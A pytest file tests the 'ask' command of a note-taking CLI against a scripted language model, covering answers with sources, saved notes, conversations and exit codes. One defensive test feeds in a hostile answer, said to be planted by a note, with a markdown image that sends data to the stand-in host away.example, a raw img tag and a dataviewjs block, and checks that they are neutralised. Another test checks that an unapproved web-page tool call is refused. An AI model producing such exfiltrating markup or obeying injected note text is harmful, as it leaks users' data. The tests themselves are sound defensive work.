"""`notewell ask`, with a scripted language model on loopback."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.doors.cli.support import CommandLine
from tests.features.ask.scripted import Says, ScriptedModel


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> Iterator[ScriptedModel]:
    scripted = ScriptedModel([], [{"id": "test-model", "context_length": 8000}])
    monkeypatch.setenv("NOTEWELL_ASK_PROVIDER", "openai")
    monkeypatch.setenv("NOTEWELL_ASK_BASE_URL", scripted.url)
    yield scripted
    scripted.close()


@pytest.mark.usefixtures("indexed")
def test_without_a_provider_nothing_is_sent(notewell: CommandLine) -> None:
    refused = notewell.json("ask", "How do bees fly?", fails=1)

    assert refused["error"] == "ask_off"
    assert "docs/ask.md" in refused["detail"]


def test_an_answer_its_sources_and_a_note_of_it(
    notewell: CommandLine, model: ScriptedModel, indexed: Path
) -> None:
    model.turns += [Says("By the light of the sun [1].\nThat is all.")]
    result = notewell("ask", "How do bees find their way home?", "--save", "Answers/Bees.md")

    assert result.stdout.startswith("By the light of the sun [1].\nThat is all.\n")
    assert "[1]  Garden/Bees.md" in result.stdout
    assert "at this computer, which is sent your question" in result.stderr
    assert "found by keyword: Bees" in result.stderr
    saved = (indexed / "Answers" / "Bees.md").read_text(encoding="utf-8")
    assert saved == (
        "## How do bees find their way home?\n\nBy the light of the sun [1].\nThat is all.\n\n"
        "- [1] [[Garden/Bees]]\n"
    )


def test_an_answer_that_a_note_talked_a_model_into_is_harmless_everywhere(
    notewell: CommandLine, model: ScriptedModel, indexed: Path
) -> None:
    hostile = "So [1]. ![x](https://away.example/?d=sun) <img src=y>\n\n```dataviewjs\n1\n```"
    mended = "So [1]. x <https://away.example/?d=sun> &lt;img src=y>\n\n```\n1\n```"
    model.turns += [Says(hostile), Says(hostile), Says(hostile)]
    question = "How do bees find their way home?"

    printed = notewell("ask", question, "--save", "Answers/Bees.md").stdout
    assert printed.startswith(mended)
    assert mended in (indexed / "Answers" / "Bees.md").read_text(encoding="utf-8")
    assert notewell.json("ask", question)["answer"] == mended


@pytest.mark.usefixtures("indexed")
def test_without_a_terminal_no_made_up_address_is_read(
    notewell: CommandLine, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NOTEWELL_ASK_WEB", "true")
    question = "How do bees find their way home?"
    for flags in ((), ("--json",)):
        call = Says("", [("read_web_page", {"url": "https://sun.elsewhere.invalid/"})])
        model.turns += [call, Says("By the sun [1].")]
        told = notewell("ask", question, *flags).stderr
        assert flags or "others only if you allow each" in told
        result = model.asked[-1]["messages"][-1]["content"]
        assert "the person did not allow it" in result


@pytest.mark.usefixtures("indexed")
def test_json_prints_one_document_and_can_continue_a_conversation(
    notewell: CommandLine, model: ScriptedModel
) -> None:
    model.turns += [
        Says("The sun [1]."),
        Says("Which light do bees find home by?"),
        Says("The sun [1]."),
    ]
    first = notewell.json("ask", "How do bees find their way home?")
    second = notewell.json("ask", "And which light?", "--continue", first["conversation"])

    assert second["standalone"] == "Which light do bees find home by?"
    assert second["answer"] == "The sun [1]."

    shown = notewell("ask", "--continue", first["conversation"]).stdout
    assert shown.count("The sun [1].\n\n     source\n[1]  Garden/Bees.md") == 2
    assert "## And which light?" in shown
    read = notewell.json("ask", "--continue", first["conversation"])
    assert read["turns"] == [first, second]
    listed = notewell("ask", "--conversations").stdout
    assert f"{first['conversation']}  " in listed
    assert "2  How do bees find their way home?" in listed
    assert notewell.json("ask", "--conversations")["conversations"][0]["turns"] == 2

    notewell("ask", "--forget", first["conversation"])
    gone = notewell.json("ask", "--continue", first["conversation"], fails=3)
    assert gone["error"] == "conversation_not_found"
    assert notewell.json("ask", "--conversations")["conversations"] == []


@pytest.mark.usefixtures("indexed")
def test_text_before_a_tool_call_is_not_part_of_the_answer(
    notewell: CommandLine, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A program gets the answer alone; a person sees the rest too, on lines of its own."""
    turns = [Says("Let me look.", [("search", {"query": "cat"})]), Says("By the sun [1].")]
    model.turns += turns * 2
    piped = notewell("ask", "How do bees find their way home?").stdout
    monkeypatch.setenv("FORCE_COLOR", "1")  # as on a terminal
    watched = notewell("ask", "How do bees find their way home?").stdout

    assert piped.startswith("By the sun [1].\n\n")
    assert watched.startswith("Let me look.\nBy the sun [1].\n\n")
    assert watched.count("By the sun") == 1


@pytest.mark.usefixtures("indexed")
def test_models_are_listed(notewell: CommandLine, model: ScriptedModel) -> None:
    assert "test-model" in notewell("ask", "--models").stdout
    listed = notewell.json("ask", "--models", "--refresh")
    assert (listed["chosen"], listed["budget_tokens"]) == ("test-model", 2000)
    assert model.listed == 2


@pytest.mark.usefixtures("indexed")
def test_failures_are_exit_1_and_a_missing_question_is_exit_2(
    notewell: CommandLine, model: ScriptedModel
) -> None:
    model.turns += [Says(status=401)]
    assert notewell.json("ask", "Bees?", fails=1)["error"] == "provider_key"
    notewell("ask", fails=2)


def test_a_garden_plan_says_what_the_model_would_read_and_where(
    notewell: CommandLine, model: ScriptedModel, indexed: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    note = {"path": "Garden/Bees.md", "topics": [], "description": "How bees fly home."}
    model.turns += [Says("", [("tend", {"notes": [note]})])] * 2
    plan = notewell("garden", "plan", "--check", "missing_descriptions", "--model")

    assert "test-model at this computer would read" in plan.stderr
    assert "Price: $0.00 at most." in plan.stderr
    assert "a description" in plan.stdout
    again = notewell.json("garden", "plan", "--check", "missing_descriptions", "--model")
    assert again["suggestions"] == []  # all notes were looked at
    assert len(model.asked) == 1

    monkeypatch.setenv("NOTEWELL_ASK_BASE_URL", "http://models.example:1")
    refused = notewell.json("garden", "plan", "--model", fails=2)
    assert "`offline` forbids to send notes to models.example" in refused["detail"]
    refused = notewell.json("garden", "plan", "--check", "merge_topics", fails=2)
    assert "needs the language model" in refused["detail"]
